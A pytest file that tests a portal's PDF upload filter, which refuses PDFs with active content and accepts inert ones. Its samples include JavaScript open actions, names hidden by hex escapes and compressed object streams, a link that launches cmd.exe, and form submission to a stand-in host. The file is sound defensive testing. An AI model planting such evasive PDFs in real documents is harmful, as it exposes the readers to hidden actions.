"""PDFs that run scripts or act by themselves are refused at upload, however their names are written."""

from __future__ import annotations

import io
import os
import zlib
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from socle.core.blobs import BlobRefused, blob_put, storage_reset
from socle.core.models import Blob
from tests.core.test_blobs import multipart
from tests.support.pdf_samples import PAGE_TREE, catalog, pdf_file, stream

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + os.urandom(100)
FACTURX = (b'<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:'
           b'unece:uncefact:data:standard:CrossIndustryInvoice:100"/>')


def with_page(page_extra: bytes, *others: tuple[int, bytes]) -> dict[int, bytes]:
    objects = {**catalog(), 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                              + page_extra + b" >>"}
    objects.update(dict(others))
    return objects


def attached(content: bytes, typed: bool = True) -> dict[int, bytes]:
    # The stream's /Type is optional: untyped, only /EF (packable) says it is a file.
    return {**catalog(b"/Names << /EmbeddedFiles << /Names [(piece) 4 0 R] >> >>"),
            4: b"<< /Type /Filespec /F (piece) /EF << /F 5 0 R >> >>",
            5: stream(content, b"/Type /EmbeddedFile" if typed else b"")}


def encrypted(user_password: str, script: str | None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if script:
        writer.add_open_action(JavaScript(script))
    writer.encrypt(user_password=user_password, owner_password="proprietaire", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE = {
    "open_action_javascript": pdf_file(catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    # #xx escapes: the bytes "JavaScript" and "/JS" appear nowhere in the file.
    "hex_escaped_names": pdf_file(catalog(b"/OpenAction << /S /J#61va#53cript /J#53 (x) >>")),
    # The catalog and the script in a compressed object stream: no name readable as bytes.
    "names_tree_in_object_stream": pdf_file(
        {**catalog(b"/Names << /JavaScript 4 0 R >>"), 4: b"<< /Names [(a) 5 0 R] >>",
         5: b"<< /S /JavaScript /JS (this.submitForm('https://ailleurs.example')) >>"},
        packed={1, 4, 5}),
    "page_open_opens_an_address": pdf_file(
        with_page(b"/AA << /O << /S /URI /URI (https://ailleurs.example/pixel) >> >>")),
    "goto_then_address_on_open": pdf_file(catalog(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>")
        | {4: b"<< /S /URI /URI (https://ailleurs.example) >>"}),
    "link_launches_a_program": pdf_file(with_page(
        b"/Annots [4 0 R]",
        (4, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"))),
    "submit_form": pdf_file(with_page(
        b"/Annots [4 0 R]",
        (4, b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm "
            b"/F << /FS /URL /F (https://ailleurs.example) >> >> >>"))),
    "rich_media": pdf_file(with_page(
        b"/Annots [4 0 R]",
        (4, b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"))),
    "xfa_form": pdf_file(catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>")
                         | {4: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}),
    "attached_executable": pdf_file(attached(EXE)),
    "attached_executable_in_object_stream": pdf_file(attached(EXE, typed=False),
                                                     packed={1, 4}),
    "encrypted_with_a_script": encrypted("", "app.alert(1)"),
    "protected_by_a_password": encrypted("secret", None),
    # Unreadable by pypdf (no cross-reference, no trailer) yet repairable by a viewer: the
    # bytes, compressed streams included, are searched instead.
    "damaged_with_a_compressed_script": (
        b"%PDF-1.7\n1 0 obj\n<< /Length 40 /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"<< /Type /Action /S /J#61vaScript /JS (x) >>") + b"\nendstream\nendobj\n"),
}

INERT = {
    "plain": pdf_file(catalog()),
    "opens_on_its_first_page": pdf_file(catalog(b"/OpenAction [3 0 R /Fit]")),
    "opens_with_a_goto": pdf_file(catalog(b"/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 0] >>")),
    "a_link_to_click": pdf_file(with_page(
        b"/Annots [4 0 R]",
        (4, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
            b"/URI (https://www.agglo-compiegne.fr) >> >>"))),
    # Text about JavaScript in a page is words, not a script.
    "text_about_javascript": pdf_file(with_page(
        b"/Contents 4 0 R", (4, stream(b"BT /F1 12 Tf (/JavaScript /OpenAction /JS) Tj ET")))),
    "facturx_invoice": pdf_file(attached(FACTURX, typed=False), packed={1, 4}),
    "encrypted_without_password": encrypted("", None),
    "the_test_suites_minimal_pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "page_tree_only": pdf_file({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PAGE_TREE}, packed={3}),
}


@pytest.fixture
def blob_dir(settings: Any, tmp_path: Path) -> Any:
    settings.BLOB_DIR = tmp_path / "blobs"
    storage_reset()
    yield settings.BLOB_DIR
    storage_reset()


def test_the_obfuscated_samples_hide_their_names_from_a_byte_search() -> None:
    assert b"JavaScript" not in ACTIVE["hex_escaped_names"]
    assert b"/JS" not in ACTIVE["hex_escaped_names"]
    assert b"JavaScript" not in ACTIVE["names_tree_in_object_stream"]
    assert b"EmbeddedFile" not in ACTIVE["attached_executable_in_object_stream"]


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_an_active_pdf_is_refused(name: str, blob_dir: Any, db: None) -> None:
    with pytest.raises(BlobRefused) as refusal:
        blob_put(stream=io.BytesIO(ACTIVE[name]))
    assert refusal.value.code == "active_content"
    assert refusal.value.message.startswith("Ce PDF contient ")
    assert not Blob.objects.exists()
    assert not any(p.is_file() for p in Path(blob_dir).rglob("*"))


@pytest.mark.parametrize("name", sorted(INERT))
def test_an_inert_pdf_is_accepted(name: str, blob_dir: Any, db: None) -> None:
    assert blob_put(stream=io.BytesIO(INERT[name])).blob.mime_type == "application/pdf"


def test_the_refusal_says_what_was_found(blob_dir: Any, db: None) -> None:
    with pytest.raises(BlobRefused) as refusal:
        blob_put(stream=io.BytesIO(ACTIVE["page_open_opens_an_address"]))
    assert "action automatique" in refusal.value.message and "(URI)" in refusal.value.message
    with pytest.raises(BlobRefused) as refusal:
        blob_put(stream=io.BytesIO(ACTIVE["protected_by_a_password"]))
    assert "mot de passe" in refusal.value.message


def test_the_api_answers_an_active_pdf_with_a_400_and_its_code(
        blob_dir: Any, territory: dict, make_user: Any, api_client: Any) -> None:
    agent = make_user("agent@exemple.fr", roles=[(territory["compiegne"], "portal.caseworker")])
    body, content_type = multipart(ACTIVE["names_tree_in_object_stream"], filename="facture.pdf")
    response: Any = api_client(agent).generic("POST", "/api/v1/blobs", body,
                                              content_type=content_type)
    assert response.status_code == 400
    assert response.json()["code"] == "active_content"
    assert "du JavaScript" in response.json()["message"]
    assert not Blob.objects.exists()
